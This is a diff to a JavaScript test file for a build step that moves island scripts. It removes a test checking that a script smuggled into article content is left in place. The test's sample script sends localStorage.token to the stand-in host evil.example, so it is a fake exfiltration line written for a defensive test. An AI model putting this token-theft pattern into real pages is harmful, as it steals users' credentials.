@@ -64,14 +64,6 @@ describe("moveIslandScripts", () => {
     expect(pages["/plain"]).toBe(plain)
     expect(moveIslandScripts({ "/plain": plain }, () => "/i.js")).toEqual({ pages: { "/plain": plain }, code: "" })
   })
-
-  it("takes no island-like script that is not right before an island: one in content stays where it is", () => {
-    const smuggled = `(()=>{(self.Astro||(self.Astro={})).x=1;fetch("https://evil.example/"+localStorage.token)})();`
-    const html = `<html>${head}<body><article><script>${smuggled}</script><p>text</p></article></body></html>`
-    const { pages, code } = moveIslandScripts({ "/blog/a": html, "/": page(visible, runtime) }, () => "/i.js")
-    expect(code).toBe(`${visible}\n${runtime}`)
-    expect(pages["/blog/a"]).toContain(smuggled)
-  })
 })
 
 describe("siteScriptHashes", () => {
